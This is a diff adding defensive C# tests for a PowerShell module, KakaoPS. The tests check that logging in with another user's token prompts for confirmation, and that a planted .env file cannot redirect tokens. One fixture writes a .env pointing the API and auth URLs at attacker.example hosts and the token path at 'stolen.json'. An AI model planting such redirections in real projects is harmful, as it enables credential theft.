@@ -107,6 +107,31 @@ public sealed class CredentialSourceAttackTests : RecordedCmdletTest
         Assert.Contains(Key, error.ToString());
     }
 
+    [Theory]
+    [InlineData(0, Attacker)] // Yes
+    [InlineData(1, Victim)]   // No
+    public async Task In_an_interactive_session_the_user_is_asked_and_the_answer_counts(int choice, long expectedUser)
+    {
+        await ConnectAsync();
+        var other = (await Control.IssueTokensAsync(userId: Attacker)).GetProperty("refresh_token").GetString()!;
+        var host = new AnsweringHost(choice);
+        var state = System.Management.Automation.Runspaces.InitialSessionState.CreateDefault2();
+        state.ImportPSModule(Path.Combine(AppContext.BaseDirectory, "KakaoPS.psd1"));
+        using var runspace = System.Management.Automation.Runspaces.RunspaceFactory.CreateRunspace(host, state);
+        runspace.Open();
+        using var shell = System.Management.Automation.PowerShell.Create();
+        shell.Runspace = runspace;
+        shell.AddScript("Set-Location -LiteralPath $args[0]; Connect-Kakao -RefreshToken $args[1] -RestApiKey $args[2]").AddArgument(Folder.Path).AddArgument(other).AddArgument(Key);
+
+        shell.Invoke();
+
+        var question = Assert.Single(host.Questions);
+        Assert.Contains(Victim.ToString(), question);
+        Assert.Contains(Attacker.ToString(), question);
+        Assert.Equal(expectedUser, JsonDocument.Parse(File.ReadAllText(Folder.TokenPath)).RootElement.GetProperty("user_id").GetInt64());
+        Assert.Equal(choice == 1, shell.Streams.Error.Any(e => e.FullyQualifiedErrorId.StartsWith("LoginForAnotherUser,")));
+    }
+
     [Fact]
     public async Task Logging_in_again_as_the_same_user_asks_nothing()
     {
@@ -197,6 +222,19 @@ public sealed class CredentialSourceAttackTests : RecordedCmdletTest
     }
 
     [Fact]
+    public async Task A_dotenv_cannot_send_the_tokens_to_another_server()
+    {
+        await ConnectAsync();
+        File.WriteAllText(DotEnv, "KAKAOPS_API_URL=https://kapi.attacker.example\nKAKAOPS_AUTH_URL=https://kauth.attacker.example\nKAKAOPS_TOKEN_PATH=./stolen.json\n");
+
+        var result = Run("'hi' | Send-KakaoMemo; Get-KakaoContext").Succeeded();
+
+        Assert.Equal(Emulator.BaseUrl, result.Output.OfType<KakaoContext>().Single().ApiUrl);
+        Assert.Single(await Control.MessagesAsync());
+        Assert.False(File.Exists(Folder.File("stolen.json")));
+    }
+
+    [Fact]
     public async Task A_cloned_folder_whose_dotenv_the_parser_cannot_read_does_not_stop_sending()
     {
         await ConnectAsync();
@@ -256,6 +294,55 @@ public sealed class CredentialSourceAttackTests : RecordedCmdletTest
         Assert.StartsWith("KOE999,", error.FullyQualifiedErrorId);
         Assert.DoesNotContain(result.Transcript(), line => line.Contains("ECHOED-"));
         Assert.Contains("refresh_token=…", error.ToString());
+    }
+}
+
+/// <summary>A host whose user answers every choice with the same option, noting each question.</summary>
+internal sealed class AnsweringHost : System.Management.Automation.Host.PSHost
+{
+    private readonly AnsweringUI _ui;
+
+    public AnsweringHost(int answer) => _ui = new AnsweringUI(answer);
+
+    public System.Collections.Generic.List<string> Questions => _ui.Questions;
+
+    public override string Name => "AnsweringHost";
+    public override Version Version => new(1, 0);
+    public override Guid InstanceId { get; } = Guid.NewGuid();
+    public override System.Management.Automation.Host.PSHostUserInterface UI => _ui;
+    public override System.Globalization.CultureInfo CurrentCulture => System.Globalization.CultureInfo.CurrentCulture;
+    public override System.Globalization.CultureInfo CurrentUICulture => System.Globalization.CultureInfo.CurrentUICulture;
+    public override void SetShouldExit(int exitCode) { }
+    public override void EnterNestedPrompt() => throw new NotSupportedException();
+    public override void ExitNestedPrompt() => throw new NotSupportedException();
+    public override void NotifyBeginApplication() { }
+    public override void NotifyEndApplication() { }
+
+    private sealed class AnsweringUI(int answer) : System.Management.Automation.Host.PSHostUserInterface
+    {
+        public System.Collections.Generic.List<string> Questions { get; } = new();
+
+        public override int PromptForChoice(string caption, string message, System.Collections.ObjectModel.Collection<System.Management.Automation.Host.ChoiceDescription> choices, int defaultChoice)
+        {
+            Questions.Add(caption + " " + message);
+            return answer;
+        }
+
+        public override System.Management.Automation.Host.PSHostRawUserInterface RawUI => null!;
+        public override string ReadLine() => string.Empty;
+        public override System.Security.SecureString ReadLineAsSecureString() => new();
+        public override void Write(string value) { }
+        public override void Write(ConsoleColor foregroundColor, ConsoleColor backgroundColor, string value) { }
+        public override void WriteLine(string value) { }
+        public override void WriteErrorLine(string value) { }
+        public override void WriteDebugLine(string message) { }
+        public override void WriteProgress(long sourceId, System.Management.Automation.ProgressRecord record) { }
+        public override void WriteVerboseLine(string message) { }
+        public override void WriteWarningLine(string message) { }
+        public override System.Collections.Generic.Dictionary<string, System.Management.Automation.PSObject> Prompt(string caption, string message, System.Collections.ObjectModel.Collection<System.Management.Automation.Host.FieldDescription> descriptions) => new();
+        public override System.Management.Automation.PSCredential PromptForCredential(string caption, string message, string userName, string targetName) => throw new NotSupportedException();
+        public override System.Management.Automation.PSCredential PromptForCredential(string caption, string message, string userName, string targetName,
+            System.Management.Automation.PSCredentialTypes allowedCredentialTypes, System.Management.Automation.PSCredentialUIOptions options) => throw new NotSupportedException();
     }
 }
 
